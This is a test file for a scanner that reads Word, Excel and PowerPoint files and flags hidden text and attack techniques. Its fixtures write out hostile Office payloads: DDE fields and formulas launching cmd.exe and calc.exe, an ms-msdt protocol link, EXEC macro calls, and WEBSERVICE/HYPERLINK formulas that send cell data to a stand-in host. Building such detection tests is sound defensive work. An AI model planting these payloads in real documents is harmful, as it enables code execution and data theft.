import { describe, expect, it } from 'vitest';
import { MAX_REPEATED_CHARACTERS } from '../src/ooxml/read-sheet.ts';
import { cell, docx, paragraph, pptx, rows, shape, xlsx, xml } from '../src/testing/office-builder.ts';
import { INSTRUCTION, ORDINARY, read, techniques, textOf } from './office-fixtures.ts';
import type { Link } from '../src/testing/office-builder.ts';

const PNG = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1);

const alternate = (fallback: string): string =>
  `<w:p><w:r><mc:AlternateContent><mc:Choice>${paragraph('Box')}</mc:Choice><mc:Fallback>${paragraph(fallback)}</mc:Fallback></mc:AlternateContent></w:r></w:p>`;

const instructionRun = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;

/** The part of a control with a caption. */
const ocx = (id: string): string =>
  `<ax:ocx ax:classid="${id}" ax:persistence="persistPropertyBag" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX">` +
  `<ax:ocxPr ax:name="Size" ax:value="556;609"/><ax:ocxPr ax:name="Caption" ax:value="${INSTRUCTION}"/></ax:ocx>`;

/** A document with controls of these classes. */
const control = (...classes: readonly string[]): Uint8Array =>
  docx(paragraph(ORDINARY), {
    links: classes.map((_, index): Link => [`a${index}`, 'control', `activeX/activeX${index}.xml`]),
    files: Object.fromEntries(classes.map((id, index) => [`word/activeX/activeX${index}.xml`, ocx(id)])),
  });

describe('a word processing document', () => {
  it('is read in order: body, then headers, footers and notes', async () => {
    const links: readonly Link[] = [
      ['h', 'header', 'header1.xml'],
      ['f', 'footnotes', 'footnotes.xml'],
    ];
    const files = {
      'word/header1.xml': xml('w:hdr', paragraph('The header')),
      'word/footnotes.xml': xml('w:footnotes', `<w:footnote>${paragraph('The note')}</w:footnote>`),
    };
    const extraction = await read('docx', docx(paragraph('First') + paragraph('Second'), { links, files }));
    expect(textOf(extraction)).toBe('First\nSecond\nThe header\nThe note');
    expect(extraction.surfaces.map(({ location }) => location)).toEqual([
      { kind: 'part', path: 'body' },
      { kind: 'part', path: 'header 1' },
      { kind: 'part', path: 'footnotes 1' },
    ]);
    expect(extraction.reasons).toEqual([]);
    expect(extraction.threats).toEqual([]);
  });

  it('gives comments, deleted text, alternative texts and fields as surfaces of their own, of which nobody knows who sees them', async () => {
    const body =
      `<w:p><w:r><w:t>Kept</w:t></w:r><w:del><w:r><w:delText>Deleted</w:delText></w:r></w:del>` +
      `<w:r><w:drawing><wp:inline><wp:docPr id="1" name="n" descr="A picture of a house"/></wp:inline></w:drawing></w:r>` +
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://example.com"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    const links: readonly Link[] = [['c', 'comments', 'comments.xml']];
    const files = { 'word/comments.xml': xml('w:comments', `<w:comment>${paragraph('A remark')}</w:comment>`) };
    const { surfaces } = await read('docx', docx(body, { links, files }));
    expect(surfaces.map(({ text, origin, visibility }) => [text, origin, visibility])).toEqual([
      ['Kept', 'body', 'visible'],
      ['Deleted', 'comment', 'unknown'],
      ['A picture of a house', 'alt_text', 'unknown'],
      ['HYPERLINK "https://example.com"', 'metadata', 'unknown'],
      ['A remark', 'comment', 'unknown'],
    ]);
  });

  describe('with an ActiveX control', () => {
    const CHECK_BOX = '{8BD21D40-EC42-11CE-9E0D-00AA006002F3}';
    const FLASH = '{D27CDB6E-AE6D-11CF-96B8-444553540000}';
    const FRAME = '{6E182020-F460-11CE-9BCD-00AA00608E01}';

    it('reports programs, and of the fields of a form that they are there', async () => {
      for (const classes of [[CHECK_BOX], [CHECK_BOX.toLowerCase(), CHECK_BOX]]) {
        const { signals, threats } = await read('docx', control(...classes));
        expect([threats, signals]).toEqual([[], ['activex_control']]);
      }
      for (const classes of [[FLASH], [FRAME], [CHECK_BOX, FLASH], ['']]) {
        const extraction = await read('docx', control(...classes));
        expect([techniques(extraction), extraction.signals]).toEqual([['activex_control'], ['activex_control']]);
      }
    });

    it('takes one that cannot be read for a program', async () => {
      const files = { 'word/activeX/activeX1.xml': ocx(CHECK_BOX).slice(1) };
      const extraction = await read('docx', docx(paragraph(ORDINARY), { links: [['a', 'control', 'activeX/activeX1.xml']], files }));
      expect(techniques(extraction)).toEqual(['activex_control']);
      expect(extraction.reasons).toEqual(['malformed_content']);
    });

    it('reads its captions', async () => {
      const { surfaces } = await read('docx', control(CHECK_BOX));
      expect(surfaces).toContainEqual({
        text: INSTRUCTION,
        origin: 'body',
        visibility: 'unknown',
        hiddenBy: [],
        location: { kind: 'part', path: 'control' },
      });
    });
  });

  it('reads a shape once when its fallback says the same, and both when it does not', async () => {
    expect(textOf(await read('docx', docx(alternate('Box'))))).toBe('Box');
    expect(textOf(await read('docx', docx(alternate('Other'))))).toBe('Box\nOther');
  });

  it('gives images once however often they are used, and embedded files', async () => {
    const links: readonly Link[] = [
      ['1', 'image', 'media/a.png'],
      ['2', 'image', 'media/b.png'],
      ['3', 'package', 'embeddings/x.docx'],
      ['4', 'image', 'media/c.emf'],
    ];
    const files = {
      'word/media/a.png': PNG,
      'word/media/b.png': PNG,
      'word/embeddings/x.docx': docx(paragraph('Inner')),
      'word/media/c.emf': Uint8Array.of(1, 0, 0, 0, 0xff),
    };
    const extraction = await read('docx', docx(paragraph(ORDINARY), { links, files }));
    expect(extraction.children.map(({ kind, format, path }) => [kind, format, path])).toEqual([
      ['image', 'png', 'image 1'],
      ['document', 'docx', 'embedded file 2'],
    ]);
    expect(extraction.structure?.embeddedImageCount).toBe(2);
    expect(extraction.structure?.unsupportedSurfaces).toEqual(['embedded_images']);
    expect(extraction.signals).toContain('embedded_object');
  });

  it('reads properties and custom XML as metadata, and parts that nothing refers to', async () => {
    const files = { 'customXml/item1.xml': '<note>custom words</note>', 'word/lost.xml': '<lost>unreferenced words</lost>' };
    const extraction = await read('docx', docx(paragraph(ORDINARY), { links: [['c', 'customXml', '../customXml/item1.xml']], files }));
    expect(textOf(extraction, 'metadata')).toBe('custom words');
    expect(textOf(extraction)).toContain('unreferenced words');
    expect(extraction.signals).toContain('unreferenced_parts');
  });

  it('gives each property that is a sentence by itself, so that what stands beside it does not blur it', async () => {
    const [note, other] = ['The second painter arrives on Thursday', 'Green paint is in the cellar of the house'];
    const item = `<p><a>1</a><b>${note}</b><c>Calibri</c><d>${other}</d><e>2013-01-27</e></p>`;
    const { surfaces } = await read(
      'docx',
      docx(paragraph(ORDINARY), { links: [['c', 'customXml', '../customXml/item1.xml']], files: { 'customXml/item1.xml': item } }),
    );
    expect(surfaces.filter(({ origin }) => origin === 'metadata').map(({ text }) => text)).toEqual([note, other, '1\nCalibri\n2013-01-27']);
  });

  it('reads the labels of lists and the variables of the document', async () => {
    const links: readonly Link[] = [
      ['n', 'numbering', 'numbering.xml'],
      ['s', 'settings', 'settings.xml'],
    ];
    const files = {
      'word/numbering.xml': xml('w:numbering', '<w:lvlText w:val="%1."/><w:lvlText w:val="Printed before %1"/>'),
      'word/settings.xml': xml('w:settings', '<w:docVar w:name="a" w:val="Words in a variable"/>'),
    };
    const extraction = await read('docx', docx(paragraph(ORDINARY), { links, files }));
    expect(textOf(extraction)).toBe(`${ORDINARY}\nPrinted before %1`);
    expect(textOf(extraction, 'metadata')).toBe('Words in a variable');
  });

  it.each([
    ['remote_template', 'attachedTemplate', 'https://example.com/t.dotm', 'malicious'],
    ['remote_object', 'oleObject', 'https://example.com/x.html!', 'malicious'],
    ['protocol_handler_link', 'oleObject', 'ms-msdt:/id PCWDiagnostic', 'malicious'],
    ['remote_content', 'frame', '\\\\host\\share', 'neutral'],
    ['remote_image', 'image', 'https://example.com/i.png', 'neutral'],
  ])('reports %s', async (technique, type, target, intent) => {
    const extraction = await read('docx', docx(paragraph(ORDINARY), { links: [['x', type, target, 'External']] }));
    expect(extraction.threats?.find((threat) => threat.technique === technique)?.intent).toBe(intent);
    expect(JSON.stringify(extraction.threats)).not.toContain('example.com');
  });

  it('counts plain links and local templates as no threat', async () => {
    const links: readonly Link[] = [
      ['a', 'hyperlink', 'https://example.com', 'External'],
      ['b', 'attachedTemplate', 'file:///C:/Templates/Normal.dotm', 'External'],
    ];
    const extraction = await read('docx', docx(paragraph(ORDINARY), { links }));
    expect(extraction.threats).toEqual([]);
    expect(extraction.signals).toEqual(['external_hyperlinks', 'external_relationships']);
  });

  it.each([
    ['dde_field', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'],
    ['external_field', 'INCLUDEPICTURE "https://example.com/x.png"'],
  ])('reports %s, also when its instruction is cut into runs', async (technique, instruction) => {
    const half = Math.floor(instruction.length / 3);
    const body = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructionRun(instruction.slice(0, half))}${instructionRun(instruction.slice(half))}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expect(techniques(await read('docx', docx(body)))).toEqual([technique]);
  });
});

const linked = (service: string): Uint8Array =>
  xlsx([{ content: rows() }], {
    links: [['e', 'externalLink', 'externalLinks/e1.xml']],
    files: { 'xl/externalLinks/e1.xml': xml('x:externalLink', `<x:ddeLink ddeService="${service}" ddeTopic="x"/>`) },
  });

describe('a workbook', () => {
  it('is read sheet by sheet, with shared strings, numbers and the names of its tabs', async () => {
    const shared = xml(
      'x:sst',
      '<x:si><x:t>Total</x:t></x:si><x:si><x:r><x:t>Ri</x:t></x:r><x:r><x:t>ch</x:t></x:r><x:rPh><x:t>hint</x:t></x:rPh></x:si>',
    );
    const cells = '<x:c r="A1" t="s"><x:v>0</x:v></x:c><x:c r="B1"><x:v>12.5</x:v></x:c><x:c r="C1" t="s"><x:v>1</x:v></x:c>';
    const extraction = await read(
      'xlsx',
      xlsx(
        [
          { name: 'Costs', content: rows(cells) },
          { name: 'Notes', content: rows(cell('A1', ORDINARY)) },
        ],
        {
          links: [['ss', 'sharedStrings', 'sharedStrings.xml']],
          files: { 'xl/sharedStrings.xml': shared },
        },
      ),
    );
    expect(textOf(extraction)).toBe(`Total\t12.5\tRich\n${ORDINARY}`);
    expect(textOf(extraction, 'metadata')).toBe('Costs\nNotes');
    expect(extraction.structure?.totalPages).toBe(2);
    expect(extraction.structure?.pages?.map(({ status }) => status)).toEqual(['completed', 'completed']);
    expect(extraction.surfaces[1]?.location).toEqual({ kind: 'part', path: 'sheet 2' });
  });

  it('reads comments, prompts and printed headers', async () => {
    const content = `${rows(cell('A1', 'x'))}<x:dataValidations><x:dataValidation prompt="Enter a date"/></x:dataValidations><x:headerFooter><x:oddHeader>Printed head</x:oddHeader></x:headerFooter>`;
    const files = {
      'xl/comments1.xml': xml(
        'x:comments',
        '<x:commentList><x:comment ref="A1"><x:text><x:r><x:t>A remark</x:t></x:r></x:text></x:comment></x:commentList>',
      ),
    };
    const extraction = await read('xlsx', xlsx([{ content, links: [['c', 'comments', '../comments1.xml']] }], { files }));
    expect(textOf(extraction, 'comment')).toBe('A remark');
    expect(textOf(extraction)).toBe('x\nEnter a date\nPrinted head');
  });

  it.each([
    ['dde_formula', "cmd|'/c calc'!A0"],
    ['formula_exfiltration', 'WEBSERVICE("https://example.com/?d="&amp;A1)'],
    ['formula_web_request', 'WEBSERVICE("https://example.com/rates")'],
    ['hyperlink_exfiltration', 'HYPERLINK("https://example.com/?d="&amp;A1,"Open")'],
    ['macro_function', 'EXEC("calc.exe")'],
  ])('reports %s', async (technique, formula) => {
    const extraction = await read('xlsx', xlsx([{ content: rows(`<x:c r="A1"><x:f>${formula}</x:f><x:v>0</x:v></x:c>`) }]));
    expect(techniques(extraction)).toContain(technique);
  });

  it('leaves ordinary formulas alone', async () => {
    const formulas = ['SUM(A1:A9)', 'IF(B2="call",1,0)', 'HYPERLINK("https://example.com","Site")', 'VLOOKUP(A1,Sheet2!A:B,2,FALSE)'];
    const content = rows(...formulas.map((formula, index) => `<x:c r="A${index + 1}"><x:f>${formula}</x:f></x:c>`));
    expect(techniques(await read('xlsx', xlsx([{ content }])))).toEqual([]);
  });

  it('reports a link that starts a program, and none to a supplier of data', async () => {
    expect(techniques(await read('xlsx', linked('cmd')))).toEqual(['dde_link']);
    expect(techniques(await read('xlsx', linked('BLOOMBERG')))).toEqual([]);
  });

  it('does not repeat a long shared string for ever, and shows what is new nevertheless', async () => {
    const shared = xml('x:sst', `<x:si><x:t>${'long '.repeat(2_000)}</x:t></x:si><x:si><x:t>new words</x:t></x:si>`);
    const uses = Array.from({ length: 600 }, (_, index) => `<x:c r="A${index + 1}" t="s"><x:v>${index === 599 ? 1 : 0}</x:v></x:c>`);
    const content = rows(...uses);
    const bytes = xlsx([{ content }], { links: [['ss', 'sharedStrings', 'sharedStrings.xml']], files: { 'xl/sharedStrings.xml': shared } });
    const extraction = await read('xlsx', bytes);
    expect(extraction.reasons).toContain('decoded_byte_budget_exceeded');
    expect(textOf(extraction).length).toBeLessThan(MAX_REPEATED_CHARACTERS + 20_000);
    expect(textOf(extraction)).toContain('new words');
  });

  it('does not scan more sheets than the budget has pages, and says which', async () => {
    const sheets = Array.from({ length: 4 }, () => ({ content: rows(cell('A1', ORDINARY)) }));
    const extraction = await read('xlsx', xlsx(sheets), { limits: { pages: 2 } });
    expect(extraction.structure?.pages?.map(({ status }) => status)).toEqual(['completed', 'completed', 'not_scanned', 'not_scanned']);
    expect(extraction.reasons).toContain('page_budget_exceeded');
  });
});

const group = (offset: number): string =>
  `<p:grpSp><p:grpSpPr><a:xfrm><a:off x="${offset}" y="0"/><a:ext cx="1000" cy="1000"/><a:chOff x="0" y="0"/><a:chExt cx="1000" cy="1000"/></a:xfrm></p:grpSpPr>${shape(ORDINARY, { x: 0, y: 0 })}</p:grpSp>`;

describe('a presentation', () => {
  it('is read slide by slide with alternative texts', async () => {
    const bytes = pptx([
      { shapes: shape('Title', { properties: 'descr="A logo"' }) },
      { shapes: `<p:grpSp>${shape('Grouped')}</p:grpSp>` },
    ]);
    const extraction = await read('pptx', bytes);
    expect(textOf(extraction)).toBe('Title\nGrouped');
    expect(textOf(extraction, 'alt_text')).toBe('A logo');
    expect(extraction.structure?.totalPages).toBe(2);
  });

  it('places shapes of groups by the group', async () => {
    const off = await read('pptx', pptx([{ shapes: group(-6_000_000) }]));
    expect(off.surfaces[0]?.hiddenBy).toEqual(['off_slide']);
    const on = await read('pptx', pptx([{ shapes: group(1_000) }]));
    expect(on.surfaces[0]?.hiddenBy).toEqual([]);
  });
});
